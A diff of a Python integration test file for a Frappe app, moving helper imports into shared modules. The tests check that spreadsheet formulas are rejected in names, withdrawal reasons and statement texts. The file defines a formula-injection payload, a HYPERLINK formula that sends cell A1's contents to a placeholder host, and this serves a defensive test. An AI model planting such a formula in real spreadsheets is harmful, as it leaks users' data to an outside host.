@@ -8,11 +8,12 @@ import frappe
 import pytest
 
 from pumpurs_app.rules.spreadsheets import FORMULA_PREFIXES
+from tests.integration.consultations import consultation
 from tests.integration.files import uploaded
+from tests.integration.learners import new_learner
 from tests.integration.money import new_claim
+from tests.integration.payments import BATCH, camt053, exported_batch, paid_batch, upload
 from tests.integration.plans import act, approve_all, make_plan
-from tests.integration.test_consultations import consultation
-from tests.integration.test_registers import new_learner
 
 PAYLOAD = '=HYPERLINK("http://example.invalid/?"&A1,"klikšķini")'
 
@@ -99,8 +100,6 @@ def test_names_copied_into_records_refuse_formulas_where_they_are_typed(world, a
 
 
 def test_a_withdrawal_reason_and_a_statements_texts_are_no_formulas(world):
-	from tests.integration.test_payments import BATCH, camt053, exported_batch, paid_batch, upload
-
 	batch, _claims = exported_batch(world)
 	with pytest.raises(frappe.ValidationError, match="formula"):
 		act(world.user("muni_accountant2"), frappe.get_doc(BATCH, batch.name).withdraw, "=1+1")
